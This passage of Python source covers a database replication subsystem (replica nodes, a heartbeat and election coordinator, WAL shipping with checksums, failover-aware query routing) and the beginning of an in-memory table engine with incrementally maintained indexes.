  rejected before it touches the replica's log, and ingestion of the
  batch stops there — the applier's position did not advance, so the
  next ship round simply re-sends the suffix.
"""

import zlib

from repro.replica.apply import ReplicaApplier


def shipped_crc(record):
    """The integrity checksum a record ships with (CRC32 over the same
    canonical payload the WAL frames on disk)."""
    return zlib.crc32(record.to_payload()) & 0xFFFFFFFF


class Role(object):
    """Replica-set roles."""

    PRIMARY = "primary"
    REPLICA = "replica"
    #: a deposed primary: still running, permanently rejected
    FENCED = "fenced"
    #: dropped from the set (crash, or the replication_lag escape hatch)
    DETACHED = "detached"


class ReplicaNode(object):
    """A named member: one WAL-attached database plus replication state."""

    def __init__(self, name, database, role=Role.REPLICA):
        self.name = name
        self.database = database
        self.role = role
        #: highest election term this node has accepted
        self.epoch = 1
        self.applier = ReplicaApplier(database)
        #: a dead node neither receives nor serves (kill_primary /
        #: crash set this; restart() brings it back through recovery)
        self.alive = True
        #: coordinator tick of the last accepted heartbeat
        self.last_heartbeat_tick = 0
        self.heartbeats_received = 0
        #: batches rejected for carrying a stale epoch (zombie fencing)
        self.fenced_batches = 0
        #: records rejected for failing their shipped checksum
        self.corrupt_rejects = 0
        #: QM-store snapshots co-applied from the primary
        self.store_syncs = 0

    @property
    def applied_lsn(self):
        """The node's committed-state watermark: a primary is by
        definition at its own durable frontier; a replica is wherever
        its apply loop has reached."""
        if self.role == Role.PRIMARY:
            return self.database.durable_lsn
        return self.applier.applied_lsn

    def receive(self, batch):
        """Ingest one shipped batch.  Returns the number of records
        newly ingested; a stale-epoch batch is rejected outright (0)."""
        if not self.alive:
            return 0
        if batch.epoch < self.epoch:
            self.fenced_batches += 1
            return 0
        self.epoch = batch.epoch
        ingested = 0
        for record, crc in batch.entries:
            if shipped_crc(record) != crc:
                # damaged in flight: stop here, the suffix re-ships
                self.corrupt_rejects += 1
                break
            if self.applier.offer(record):
                ingested += 1
        if batch.store_payload is not None:
            septic = getattr(self.database, "septic", None)
            store = getattr(septic, "store", None)
            if store is not None:
                store.restore(batch.store_payload)
                self.store_syncs += 1
        return ingested

    def heartbeat(self, tick, epoch):
        """Accept (or fence) one heartbeat; returns acceptance."""
        if not self.alive or epoch < self.epoch:
            return False
        self.epoch = epoch
        self.last_heartbeat_tick = tick
        self.heartbeats_received += 1
        return True

    def crash(self):
        """Kill the node in place: its WAL handle is abandoned exactly
        as a process death would leave it."""
        self.alive = False
        wal = self.database.wal
        if wal is not None:
            wal.abandon()

    def restart(self):
        """Crash-restart through ordinary recovery, then re-align the
        applier (buffered open transactions are rebuilt from the log)."""
        self.database.reopen()
        self.applier.resync()
        self.alive = True

    def status(self):
        return {
            "name": self.name,
            "role": self.role,
            "epoch": self.epoch,
            "alive": self.alive,
            "applied_lsn": self.applied_lsn,
            "seen_lsn": self.applier.last_seen_lsn,
            "in_flight": self.applier.in_flight,
            "fenced_batches": self.fenced_batches,
        }

    def __repr__(self):
        return "ReplicaNode(%s, %s, epoch=%d, applied=%d%s)" % (
            self.name, self.role, self.epoch, self.applied_lsn,
            "" if self.alive else ", DEAD",
        )
