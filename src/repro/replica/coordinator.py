""":class:`ReplicaSet`: membership, heartbeats, election, retention.

The coordinator is the harness-side stand-in for the control plane a
real deployment would run (every node in one process, like the rest of
the reproduction).  Time is an integer **virtual tick** counter owned by
the set — nothing here reads a wall clock (a lint gate enforces it), so
every failover scenario is deterministic and the DES experiments can
drive the clock themselves.

The state machine, per heartbeat boundary (every ``heartbeat_interval``
ticks):

1. **ship** — the live primary's un-fetched log records go to every
   live replica, each batch stamped with the primary's epoch and each
   record with a ship CRC (:func:`repro.replica.node.shipped_crc`);
   when the primary's SEPTIC store changed since the last round, its
   snapshot rides along so detection models stay consistent set-wide;
2. **heartbeat** — live replicas refresh their lease from the primary's
   epoch.  The ``replica.heartbeat`` fault site models a lost beat:
   nothing ships, no lease refreshes;
3. **lease check** — a live replica whose lease has been silent for
   ``lease_intervals`` heartbeat windows starts an election:
   :meth:`ReplicaSet.promote` picks the live replica with the highest
   applied LSN (name-ordered tie-break), bumps the epoch, fences
   whatever still thinks it is primary, and re-registers the WAL
   retention pin on the new primary.

Retention: the primary's checkpoints consult
:meth:`ReplicaSet._retention_low_water` (registered via
``Database.pin_lsn``) — rotation waits for the slowest live replica's
applied LSN, except that a replica lagging more than
``max_retention_lag`` records is dropped from the set (role
``detached``, logged as a ``replication_lag`` event) rather than pinning
the log forever: the escape hatch trades that replica's freshness for
the primary's disk.
"""

import os

from repro import faults as faults_mod
from repro.replica.node import ReplicaNode, Role, shipped_crc
from repro.sqldb import wal as wal_mod
from repro.sqldb.engine import Database
from repro.sqldb.errors import WalError


class ShippedBatch(object):
    """One epoch-stamped shipment: ``entries`` is a list of
    ``(WalRecord, ship_crc)`` pairs in LSN order; ``store_payload`` is
    an optional SEPTIC QM-store snapshot riding along."""

    __slots__ = ("epoch", "entries", "store_payload")

    def __init__(self, epoch, entries, store_payload=None):
        self.epoch = epoch
        self.entries = entries
        self.store_payload = store_payload

    def __repr__(self):
        return "ShippedBatch(epoch=%d, %d records%s)" % (
            self.epoch, len(self.entries),
            ", +store" if self.store_payload is not None else "",
        )


def corrupt_shipment(entries, rng):
    """Corruptor for the ``replica.ship`` site: damage one in-flight
    record (its payload no longer matches its ship CRC), leaving the
    primary's log untouched."""
    if not entries:
        return entries
    index = rng.randrange(len(entries))
    record, crc = entries[index]
    twisted = wal_mod.WalRecord(
        record.lsn, record.op, tx=record.tx, sql=record.sql,
        clock=record.clock + 1, rand=record.rand, failed=record.failed,
    )
    entries = list(entries)
    entries[index] = (twisted, crc)
    return entries


class ReplicaSet(object):
    """A primary plus N WAL-shipping replicas under one virtual clock.

    Every member bootstraps through ``Database.recover`` over its own
    subdirectory of *workdir* — fresh directories for a new set; the
    primary may carry existing un-rotated history (it ships from LSN 1).
    *septic_factory* (a zero-argument callable) builds one SEPTIC-like
    hook per node, so the primary detects and replicas co-apply models.
    """

    def __init__(self, workdir, replicas=2, septic_factory=None, seed=1,
                 heartbeat_interval=5, lease_intervals=3,
                 max_retention_lag=None, wal_sync="commit",
                 checkpoint_interval=0, storage="memory"):
        self.workdir = workdir
        self.seed = seed
        self.heartbeat_interval = max(1, heartbeat_interval)
        #: silent heartbeat windows a replica tolerates before electing
        self.lease_intervals = max(1, lease_intervals)
        self.max_retention_lag = max_retention_lag
        #: the set's virtual clock, in ticks
        self.clock = 0
        #: current election term (stamped into every shipment)
        self.epoch = 1
        #: highest committed frontier ever observed on a live primary —
        #: keeps ``frontier_lsn`` truthful while the primary is dead, so
        #: a never-shipped replica can't masquerade as caught up just
        #: because the set forgot how far commits had advanced
        self._frontier_hwm = 0
        self.promotions = 0
        self.missed_heartbeats = 0
        self.replication_lag_drops = 0
        #: ``(tick, kind, detail)`` triples — the coordinator's log
        self.events = []
        #: names the "network" currently refuses to deliver to/from
        self._partitioned = set()
        self._store_token = None
        self.nodes = []
        for index in range(replicas + 1):
            name = "node%d" % index
            septic = septic_factory() if septic_factory else None
            database = Database.recover(
                os.path.join(workdir, name), name=name, septic=septic,
                seed=seed, wal_sync=wal_sync,
                checkpoint_interval=checkpoint_interval if index == 0 else 0,
                # replicas stay in-memory: they rebuild from shipped WAL
                # anyway, and the primary's paged files are per-directory
                storage=storage if index == 0 else "memory",
            )
            role = Role.PRIMARY if index == 0 else Role.REPLICA
            self.nodes.append(ReplicaNode(name, database, role=role))
        self._install_retention_pin(self.nodes[0])

    # -- membership --------------------------------------------------------

    @property
    def primary(self):
        """The live primary node, or ``None`` mid-failover."""
        for node in self.nodes:
            if node.role == Role.PRIMARY and node.alive:
                return node
        return None

    def replicas(self):
        """Live nodes currently in the replica role."""
        return [node for node in self.nodes
                if node.role == Role.REPLICA and node.alive]

    def node(self, name):
        for node in self.nodes:
            if node.name == name:
                return node
        raise KeyError(name)

    def connect(self, **kwargs):
        """A :class:`repro.replica.router.RoutingConnection` over the
        set (imported late: the router builds on the coordinator)."""
        from repro.replica.router import RoutingConnection

        return RoutingConnection(self, **kwargs)

    # -- the virtual clock -------------------------------------------------

    def tick(self, ticks=1):
        """Advance virtual time; heartbeat rounds run on their
        boundaries.  Returns the clock."""
        for _ in range(max(0, ticks)):
            self.clock += 1
            if self.clock % self.heartbeat_interval == 0:
                self._heartbeat_round()
        return self.clock

    @property
    def lease_ticks(self):
        return self.lease_intervals * self.heartbeat_interval

    def _heartbeat_round(self):
        primary = self.primary
        if primary is not None and primary.name not in self._partitioned:
            delivered = True
            if faults_mod.ACTIVE is not None:
                try:
                    faults_mod.fire("replica.heartbeat")
                except faults_mod.InjectedFault:
                    delivered = False
                    self.missed_heartbeats += 1
                    self._log("heartbeat_lost", primary.name)
            if delivered:
                self.ship()
                for node in self.replicas():
                    node.heartbeat(self.clock, self.epoch)
        self._check_leases()

    def renew_leases(self):
        """Re-stamp every live member's lease at the current tick.

        An operator-driven full-stack restart (``WebServer.restart(
        hard=True)``) bounces the primary through recovery; without a
        renewal the downtime it causes would read as lost heartbeats
        and could push a replica into a spurious election the moment
        ticking resumes.  Returns the number of leases renewed."""
        renewed = 0
        for node in self.nodes:
            if node.alive:
                node.heartbeat(self.clock, self.epoch)
                renewed += 1
        self._log("leases_renewed", "%d nodes" % renewed)
        return renewed

    def _check_leases(self):
        expired = [
            node for node in self.replicas()
            if self.clock - node.last_heartbeat_tick >= self.lease_ticks
        ]
        if not expired:
            return
        self._log("lease_expired",
                  ",".join(node.name for node in expired))
        try:
            self.promote()
        except faults_mod.InjectedFault:
            # the promotion machinery itself faulted: the lease is still
            # expired, so the next heartbeat round retries the election
            self._log("promote_faulted", "retrying next round")
        except WalError as exc:
            self._log("promote_impossible", str(exc))

    # -- shipping ----------------------------------------------------------

    def ship(self, source=None):
        """Ship *source*'s (default: the live primary's) un-fetched log
        records to every live replica.  Returns records newly ingested
        across the set.

        Calling it with a fenced node as *source* is the zombie-primary
        scenario: batches carry the zombie's stale epoch and every
        survivor rejects them.
        """
        if source is None:
            source = self.primary
        if source is None or not source.alive:
            return 0
        data = wal_mod.read_log_bytes(
            wal_mod.log_path(source.database.data_dir))
        records = [record for record, _end in wal_mod.iter_frames(data)]
        store_payload = self._store_snapshot_if_changed(source)
        total = 0
        for node in self.nodes:
            if (node is source or not node.alive
                    or node.role != Role.REPLICA
                    or node.name in self._partitioned):
                continue
            pending = [record for record in records
                       if record.lsn > node.applier.last_seen_lsn]
            if not pending and store_payload is None:
                continue
            entries = [(record, shipped_crc(record)) for record in pending]
            if faults_mod.ACTIVE is not None:
                try:
                    entries = faults_mod.fire("replica.ship",
                                              payload=entries,
                                              corruptor=corrupt_shipment)
                except faults_mod.InjectedFault:
                    # this node misses the round; re-ships next time
                    continue
            total += node.receive(
                ShippedBatch(source.epoch, entries, store_payload))
        return total

    def _store_snapshot_if_changed(self, source):
        """The primary's QM-store snapshot when it changed since the
        last round (replicas co-apply it), else ``None``."""
        septic = getattr(source.database, "septic", None)
        store = getattr(septic, "store", None)
        if store is None or not hasattr(store, "snapshot"):
            return None
        token = (len(store), getattr(store, "snapshot_swaps", 0))
        if token == self._store_token:
            return None
        self._store_token = token
        return store.snapshot()

    # -- failover ----------------------------------------------------------

    def promote(self, node=None):
        """Elect a new primary: the live replica with the highest
        applied LSN (lowest name breaks ties) unless *node* is forced.
        Bumps the epoch, fences the deposed primary, discards the
        winner's in-flight (uncommitted) shipments, and moves the WAL
        retention pin.  Returns the new primary node."""
        if faults_mod.ACTIVE is not None:
            faults_mod.fire("replica.promote")
        candidates = self.replicas()
        if not candidates:
            raise WalError("no live replica available for promotion")
        if node is None:
            node = sorted(
                candidates,
                key=lambda n: (-n.applier.applied_lsn, n.name),
            )[0]
        elif node not in candidates:
            raise WalError("%s is not a live replica" % node.name)
        for old in self.nodes:
            if old.role == Role.PRIMARY and old is not node:
                old.database.unpin_lsn("replication")
                old.role = Role.FENCED if old.alive else Role.DETACHED
        dropped = node.applier.discard_in_flight()
        # the winner's log is the new timeline: any unshipped tail of
        # the old primary is lost, and staleness is measured against
        # what survived the election from here on
        self._frontier_hwm = node.database.durable_lsn
        self.epoch += 1
        node.epoch = self.epoch
        node.role = Role.PRIMARY
        node.last_heartbeat_tick = self.clock
        self.promotions += 1
        self._install_retention_pin(node)
        self._log("promote",
                  "%s at applied LSN %d, epoch %d (%d uncommitted "
                  "in-flight tx discarded)"
                  % (node.name, node.applied_lsn, self.epoch, dropped))
        return node

    def kill_primary(self):
        """Crash the live primary in place (the failover sweep's kill
        switch).  Returns the node that died."""
        primary = self.primary
        if primary is None:
            raise WalError("no live primary to kill")
        if primary.database.durable_lsn > self._frontier_hwm:
            self._frontier_hwm = primary.database.durable_lsn
        primary.crash()
        self._log("kill", primary.name)
        return primary

    def partition(self, node):
        """Cut *node* off the network: heartbeats and shipments no
        longer flow to or from it, but it keeps running — the zombie
        scenario when applied to the primary."""
        self._partitioned.add(node.name)
        self._log("partition", node.name)

    def heal(self, node):
        self._partitioned.discard(node.name)
        self._log("heal", node.name)

    # -- retention ---------------------------------------------------------

    def _install_retention_pin(self, primary_node):
        for node in self.nodes:
            node.database.unpin_lsn("replication")
        primary_node.database.pin_lsn("replication",
                                      self._retention_low_water)

    def _retention_low_water(self):
        """Checkpoint-time callback on the primary: the slowest live
        replica's applied LSN, after dropping any replica lagging past
        ``max_retention_lag`` (the escape hatch)."""
        primary = self.primary
        if primary is None:
            return None
        frontier = primary.database.durable_lsn
        lows = []
        for node in list(self.nodes):
            if node.role != Role.REPLICA or not node.alive:
                continue
            applied = node.applier.applied_lsn
            lag = frontier - applied
            if (self.max_retention_lag is not None
                    and lag > self.max_retention_lag):
                self._drop_replica(node, lag)
                continue
            lows.append(applied)
        return min(lows) if lows else None

    # -- storage repair ----------------------------------------------------

    def register_storage_repair(self):
        """Wire the primary's corruption scrubber to the replica fleet.

        Installs a page-repair source on the primary's paged store
        (requires ``storage="paged"``): when a quarantined page cannot
        be repaired from the doublewrite area, a clean frame or local
        WAL redo, the owning table's rows are fetched from the most
        caught-up live replica and the table is rebuilt from them.
        Only a replica at (or past) the primary's durable frontier
        qualifies — repairing from a lagging replica would silently
        roll the table back.
        """
        primary_node = self.nodes[0]

        def provider(table_name):
            primary = self.primary
            if primary is None:
                return None
            frontier = primary.database.durable_lsn
            best = None
            for node in self.replicas():
                if node.name in self._partitioned:
                    continue
                applied = node.applier.applied_lsn
                if applied >= frontier and (
                        best is None or applied > best[0]):
                    best = (applied, node)
            if best is None:
                return None
            table = best[1].database.tables.get(table_name)
            if table is None:
                return None
            self._log(
                "storage_repair",
                "table %r re-fed from %s (applied_lsn=%d)"
                % (table_name, best[1].name, best[0]),
            )
            return table.to_dict()["rows"]

        primary_node.database.register_page_repair_source(provider)

    def _drop_replica(self, node, lag):
        node.role = Role.DETACHED
        self.replication_lag_drops += 1
        self._log(
            "replication_lag",
            "dropped %s: lag %d exceeds max_retention_lag %d"
            % (node.name, lag, self.max_retention_lag),
        )

    # -- observability -----------------------------------------------------

    def frontier_lsn(self):
        """The newest committed LSN the set has ever observed.

        With a live primary this is its durable watermark.  Mid-failover
        the high-water mark keeps the answer monotonic: a replica that
        never received a shipment stays visibly behind the commits the
        dead primary had acknowledged, instead of the frontier snapping
        back to whatever the survivors happen to hold.  ``promote``
        resets the mark — the winner's log defines the new timeline.
        """
        primary = self.primary
        if primary is not None:
            frontier = primary.database.durable_lsn
            if frontier > self._frontier_hwm:
                self._frontier_hwm = frontier
            return frontier
        return max(
            [self._frontier_hwm]
            + [node.applied_lsn for node in self.nodes if node.alive]
        )

    def status(self):
        """Per-node roles, watermarks and lags (the CLI's
        ``replicate --status`` body)."""
        frontier = self.frontier_lsn()
        rows = []
        for node in self.nodes:
            row = node.status()
            row["lag"] = max(0, frontier - row["applied_lsn"])
            rows.append(row)
        return {
            "clock": self.clock,
            "epoch": self.epoch,
            "heartbeat_interval": self.heartbeat_interval,
            "lease_intervals": self.lease_intervals,
            "promotions": self.promotions,
            "missed_heartbeats": self.missed_heartbeats,
            "replication_lag_drops": self.replication_lag_drops,
            "frontier_lsn": frontier,
            "nodes": rows,
        }

    def _log(self, kind, detail):
        self.events.append((self.clock, kind, detail))

    def close(self):
        for node in self.nodes:
            if node.alive:
                node.database.close()
            node.database.unpin_lsn("replication")

    def __repr__(self):
        return "ReplicaSet(%d nodes, epoch=%d, clock=%d)" % (
            len(self.nodes), self.epoch, self.clock
        )
