"""WAL-shipping replication with heartbeat-driven automatic failover.

The subsystem that turns one durable :class:`repro.sqldb.engine.Database`
into a replica set (ROADMAP: the "millions of users" availability and
read-scale-out multiplier on top of per-node speed):

* :mod:`repro.replica.apply` — the streaming redo apply loop: a replica
  persists shipped WAL records verbatim into its own log, then applies
  committed units through the engine's recovery redo path (never the
  public DML path — a lint gate enforces it);
* :mod:`repro.replica.node` — one member of the set: a full
  :class:`~repro.sqldb.engine.Database` plus its applier, role, and the
  fencing epoch that rejects a zombie primary's records;
* :mod:`repro.replica.coordinator` — :class:`ReplicaSet`: virtual-clock
  heartbeats, lease-based election (highest applied LSN wins), epoch
  fencing, WAL retention pinning, and SEPTIC QM-store co-apply;
* :mod:`repro.replica.router` — :class:`RoutingConnection`: routes
  writes to the primary and bounded-staleness reads to replicas,
  retrying in-flight statements against survivors with seeded
  exponential backoff + jitter in *virtual* time.

Everything here runs on the coordinator's virtual clock — no wall-clock
reads, no sleeps (another lint gate) — so every failover scenario is
deterministic and replayable.
"""

from repro.replica.apply import ReplicaApplier
from repro.replica.coordinator import ReplicaSet, ShippedBatch
from repro.replica.node import ReplicaNode, Role
from repro.replica.router import RoutingConnection

__all__ = [
    "ReplicaApplier",
    "ReplicaNode",
    "ReplicaSet",
    "Role",
    "RoutingConnection",
    "ShippedBatch",
]
