"""Failover-aware client routing over a :class:`ReplicaSet`.

:class:`RoutingConnection` is what an application holds instead of a
single-node :class:`repro.sqldb.connection.Connection`:

* **writes** (and anything unparseable) go to the live primary;
* **reads** (SELECT/EXPLAIN/SHOW/DESCRIBE-only statements) round-robin
  across replicas whose staleness is within ``max_lag_lsn`` records of
  the set's committed frontier — the bounded-staleness contract; the
  primary serves them when no replica qualifies;
* **transient failures** (no live primary mid-failover, an injected
  engine fault) are retried against the survivors with seeded
  exponential backoff + jitter — measured in **virtual ticks**, charged
  via ``ReplicaSet.tick``, so the backoff itself drives heartbeat
  rounds forward and a write stalled on a dead primary un-stalls the
  moment the lease expires and election promotes a survivor.  Same
  determinism story as the base connection's retry path: one seed, one
  schedule.
"""

import random

from repro.core.resilience import RetryStats
from repro.replica.node import Role
from repro.sqldb.connection import Connection, QueryOutcome
from repro.sqldb.engine import _READ_STATEMENTS
from repro.sqldb.errors import QueryBlocked, SQLError, TransientEngineError
from repro.sqldb.parser import parse_sql


class RoutingConnection(object):
    """Routes queries across a replica set with bounded-staleness reads
    and virtual-time retry/backoff."""

    def __init__(self, replica_set, max_lag_lsn=0, retries=6,
                 backoff_ticks=1, backoff_cap_ticks=16, jitter=0.5,
                 seed=0, charset=None):
        self._set = replica_set
        #: how many WAL records behind the committed frontier a replica
        #: may be and still serve this client's reads (0 = exactly
        #: caught up)
        self.max_lag_lsn = max_lag_lsn
        self.retries = retries
        self.backoff_ticks = backoff_ticks
        self.backoff_cap_ticks = backoff_cap_ticks
        self.jitter = jitter
        self._rng = random.Random(seed)
        self.charset = charset
        self._conns = {}
        self._round_robin = 0
        self.retry_stats = RetryStats()
        #: reads served by a replica vs the primary (the scale-out
        #: split the benchmarks measure)
        self.reads_on_replicas = 0
        self.reads_on_primary = 0
        self.writes_routed = 0

    # -- routing -----------------------------------------------------------

    def _is_read(self, sql):
        try:
            statements, _comments = parse_sql(sql)
        except SQLError:
            return False  # the primary will produce the real error
        return bool(statements) and all(
            isinstance(stmt, _READ_STATEMENTS) for stmt in statements
        )

    def _connection(self, node):
        conn = self._conns.get(node.name)
        if conn is None or conn.database is not node.database:
            # the router does its own retrying (across nodes, in
            # virtual time), so the per-node connection gets no budget
            conn = Connection(node.database, charset=self.charset)
            self._conns[node.name] = conn
        return conn

    def pick_node(self, read):
        """The node this statement should run on right now, or ``None``
        when nothing can serve it (mid-failover)."""
        primary = self._set.primary
        if not read:
            return primary
        frontier = self._set.frontier_lsn()
        # filter on role/liveness explicitly rather than trusting
        # ``replicas()``'s selection: a fenced or detached node (a
        # zombie old primary after an election, a dropped replica) may
        # be fully caught up on LSN and must still never serve reads —
        # fencing means "not part of the set", not "stale"
        eligible = [
            node for node in self._set.replicas()
            if node.alive and node.role == Role.REPLICA
            and frontier - node.applied_lsn <= self.max_lag_lsn
        ]
        if eligible:
            node = eligible[self._round_robin % len(eligible)]
            self._round_robin += 1
            return node
        return primary

    def _next_backoff_ticks(self, attempt):
        base = min(self.backoff_cap_ticks,
                   self.backoff_ticks * (2 ** (attempt - 1)))
        if self.jitter:
            base *= 1.0 + self.jitter * self._rng.random()
        return max(1, int(round(base)))

    # -- the client surface ------------------------------------------------

    def query(self, sql):
        """Run one statement somewhere in the set; returns a
        :class:`~repro.sqldb.connection.QueryOutcome`.

        Deterministic SQL errors and SEPTIC blocks return immediately
        (they are verdicts, not faults).  Transient outcomes — no
        eligible node, a mid-flight engine fault — burn the retry
        budget, backing off in virtual ticks between attempts.
        """
        read = self._is_read(sql)
        attempt = 0
        while True:
            node = self.pick_node(read)
            if node is None:
                outcome = QueryOutcome(error=TransientEngineError(
                    "no live node can serve this %s right now "
                    "(failover in progress?)"
                    % ("read" if read else "write"),
                ))
            else:
                outcome = self._connection(node).query(sql)
            if outcome.ok:
                if read:
                    if node.role == Role.PRIMARY:
                        self.reads_on_primary += 1
                    else:
                        self.reads_on_replicas += 1
                else:
                    self.writes_routed += 1
                return outcome
            error = outcome.error
            transient = (
                getattr(error, "transient", False)
                and not isinstance(error, QueryBlocked)
            )
            if not transient:
                return outcome
            if attempt == 0:
                self.retry_stats.bump("attempts")
            if attempt >= self.retries:
                self.retry_stats.bump("exhausted")
                return outcome
            attempt += 1
            self.retry_stats.bump("retries")
            ticks = self._next_backoff_ticks(attempt)
            self.retry_stats.add_backoff(ticks)
            # virtual-time backoff: waiting IS what lets the lease
            # expire and the election run
            self._set.tick(ticks)

    def query_or_raise(self, sql):
        outcome = self.query(sql)
        if not outcome.ok:
            raise outcome.error
        return outcome

    def __repr__(self):
        return ("RoutingConnection(max_lag_lsn=%d, reads r/p=%d/%d, "
                "writes=%d)" % (self.max_lag_lsn, self.reads_on_replicas,
                                self.reads_on_primary, self.writes_routed))
