"""In-memory storage engine: tables, columns, rows, result sets.

Secondary indexes are maintained **incrementally**: every mutation that
goes through the Table API (:meth:`Table.insert`, :meth:`update_row`,
:meth:`delete_rows`, :meth:`truncate`) applies a per-row delta to each
live :class:`_ColumnIndex` instead of invalidating it, so an INSERT into
a million-row table costs O(1) index work rather than an O(n) rebuild on
the next lookup.  The table's ``version`` counter survives as a
consistency check: an index whose version disagrees with the table's is
stale (some mutation bypassed the API — e.g. a legacy :meth:`touch`) and
rebuilds itself on next use; the ``index_stats()['rebuilds']`` counter
makes that observable, and the regression tests pin it at zero across
transaction rollbacks.

Index keys are :func:`repro.sqldb.types.sort_key` tuples, the same total
order the comparison engine uses — which makes one structure serve both
hash (equality) probes and bisect-based **range** scans
(:meth:`Table.index_range` for ``<``/``>``/``BETWEEN``), and fixes a
latent mismatch where the old index key lowercased strings but the
comparator also folded confusables.
"""

from bisect import bisect_left, bisect_right, insort

from repro.sqldb.errors import ExecutionError
from repro.sqldb.types import sort_key, store_convert


class Column(object):
    """Schema of one column."""

    __slots__ = (
        "name", "type_name", "length", "not_null", "primary_key",
        "auto_increment", "default", "unique",
    )

    def __init__(self, name, type_name, length=None, not_null=False,
                 primary_key=False, auto_increment=False, default=None,
                 unique=False):
        self.name = name.lower()
        self.type_name = type_name.upper()
        self.length = length
        self.not_null = not_null
        self.primary_key = primary_key
        self.auto_increment = auto_increment
        self.default = default
        self.unique = unique

    def __repr__(self):
        return "Column(%r, %r)" % (self.name, self.type_name)

    # -- durability (checkpoint snapshots) --------------------------------

    def to_dict(self):
        return {
            "name": self.name,
            "type_name": self.type_name,
            "length": self.length,
            "not_null": self.not_null,
            "primary_key": self.primary_key,
            "auto_increment": self.auto_increment,
            "default": self.default,
            "unique": self.unique,
        }

    @classmethod
    def from_dict(cls, data):
        return cls(
            data["name"],
            data["type_name"],
            length=data.get("length"),
            not_null=data.get("not_null", False),
            primary_key=data.get("primary_key", False),
            auto_increment=data.get("auto_increment", False),
            default=data.get("default"),
            unique=data.get("unique", False),
        )


#: the sort_key bucket NULLs land in — range scans must skip it (SQL
#: range predicates never match NULL)
_NULL_KEY = sort_key(None)


class _ColumnIndex(object):
    """One incrementally-maintained index over one column.

    ``map`` buckets row dicts by :func:`sort_key`; ``sorted_keys`` keeps
    the distinct keys ordered for bisect range scans.  ``version`` must
    equal the owning table's version for the index to be trusted.
    Bucket membership is by row-dict *identity* (two equal rows are
    distinct entries), matching how the executor mutates rows in place.
    """

    __slots__ = ("column", "version", "map", "sorted_keys")

    def __init__(self, column):
        self.column = column
        self.version = -1
        self.map = {}
        self.sorted_keys = []

    def build(self, rows, version):
        self.map = {}
        self.sorted_keys = []
        for row in rows:
            self.add(row)
        self.version = version

    def add(self, row):
        key = sort_key(row.get(self.column))
        bucket = self.map.get(key)
        if bucket is None:
            self.map[key] = [row]
            insort(self.sorted_keys, key)
        else:
            bucket.append(row)

    def remove(self, row, value_key=None):
        key = sort_key(row.get(self.column)) if value_key is None \
            else value_key
        bucket = self.map.get(key)
        if bucket is None:
            return
        for pos, candidate in enumerate(bucket):
            if candidate is row:
                del bucket[pos]
                break
        if not bucket:
            del self.map[key]
            where = bisect_left(self.sorted_keys, key)
            if (where < len(self.sorted_keys)
                    and self.sorted_keys[where] == key):
                del self.sorted_keys[where]

    def reindex(self, row, old_key):
        """Move *row* after its indexed value changed from *old_key*."""
        new_key = sort_key(row.get(self.column))
        if new_key == old_key:
            return
        self.remove(row, value_key=old_key)
        self.add(row)


class Table(object):
    """One table: schema plus a list of row dicts (column name → value)."""

    def __init__(self, name, columns):
        self.name = name.lower()
        self.columns = columns
        self.rows = []
        self._auto_counter = 0
        self._by_name = {col.name: col for col in columns}
        if len(self._by_name) != len(columns):
            raise ExecutionError("Duplicate column name in table %r" % name)
        #: secondary indexes: index name -> column name
        self.indexes = {}
        #: bumped on every mutation; acts as the index consistency check
        self.version = 0
        #: column -> _ColumnIndex, maintained incrementally
        self._index_cache = {}
        self._index_stats = {
            "rebuilds": 0, "incremental": 0, "restores": 0,
            "lookups": 0, "range_lookups": 0,
        }

    def has_column(self, name):
        return name.lower() in self._by_name

    def column(self, name):
        return self._by_name[name.lower()]

    def column_names(self):
        return [col.name for col in self.columns]

    # -- mutation API (keeps live indexes in lockstep) --------------------

    def _apply_delta(self, delta):
        """Bump the version and apply *delta* to every index that was
        current; stale ones stay stale and rebuild on next use."""
        old_version = self.version
        self.version += 1
        for index in self._index_cache.values():
            if index.version == old_version:
                delta(index)
                index.version = self.version
                self._index_stats["incremental"] += 1

    def insert(self, values):
        """Insert a row from a ``{column: value}`` mapping.

        Applies type conversion (including silent VARCHAR truncation),
        auto-increment, defaults, NOT NULL and UNIQUE/PRIMARY KEY checks.
        Returns the auto-increment id used (or ``None``).
        """
        row = {}
        used_auto = None
        for col in self.columns:
            if col.name in values:
                value = store_convert(
                    values[col.name], col.type_name, col.length
                )
            elif col.auto_increment:
                value = None
            elif col.default is not None:
                value = store_convert(col.default, col.type_name, col.length)
            else:
                value = None
            if value is None and col.auto_increment:
                self._auto_counter += 1
                value = self._auto_counter
                used_auto = value
            if value is None and col.not_null:
                if col.type_name in ("VARCHAR", "TEXT", "CHAR"):
                    value = ""
                elif col.type_name in ("DATETIME", "DATE"):
                    value = "0000-00-00 00:00:00"
                else:
                    value = 0
            row[col.name] = value
            if col.auto_increment and isinstance(value, int):
                self._auto_counter = max(self._auto_counter, value)
        self._check_unique(row)
        self.rows.append(row)
        self._apply_delta(lambda index: index.add(row))
        return used_auto

    def update_row(self, row, updates):
        """Apply *updates* (already store-converted) to one stored row,
        re-bucketing it in every live index whose key changed."""
        old_keys = {
            column: sort_key(row.get(column))
            for column in self._index_cache
        }
        row.update(updates)
        self._apply_delta(
            lambda index: index.reindex(row, old_keys[index.column])
        )

    def delete_rows(self, doomed):
        """Remove the given row dicts (by identity)."""
        doomed = list(doomed)
        doomed_ids = {id(row) for row in doomed}
        self.rows = [row for row in self.rows if id(row) not in doomed_ids]

        def delta(index):
            for row in doomed:
                index.remove(row)

        self._apply_delta(delta)

    def truncate(self):
        """Drop every row and reset AUTO_INCREMENT (TRUNCATE TABLE)."""
        self.rows = []
        self._auto_counter = 0

        def delta(index):
            index.map = {}
            index.sorted_keys = []

        self._apply_delta(delta)

    def touch(self):
        """Record a mutation done *outside* the mutation API.  Live
        indexes are left stale on purpose: the version mismatch is the
        consistency check that forces a rebuild on next lookup."""
        self.version += 1

    # -- transaction snapshots --------------------------------------------

    def snapshot_state(self):
        """Everything a ROLLBACK must restore: rows, the auto-increment
        counter, the mutable schema (ALTER TABLE edits columns in place,
        CREATE/DROP INDEX edits the index map in place), *and* the live
        index structure — captured as positions into the row snapshot so
        :meth:`restore_state` can rebind buckets to the restored row
        dicts without an O(n·log n) rebuild."""
        positions = {id(row): pos for pos, row in enumerate(self.rows)}
        index_states = []
        for column, index in self._index_cache.items():
            if index.version != self.version:
                continue    # stale — not worth carrying across the tx
            buckets = [
                (key, [positions[id(row)] for row in bucket])
                for key, bucket in index.map.items()
            ]
            index_states.append((column, buckets, list(index.sorted_keys)))
        return (
            [dict(row) for row in self.rows],
            self._auto_counter,
            list(self.columns),
            dict(self.indexes),
            index_states,
        )

    def restore_state(self, state):
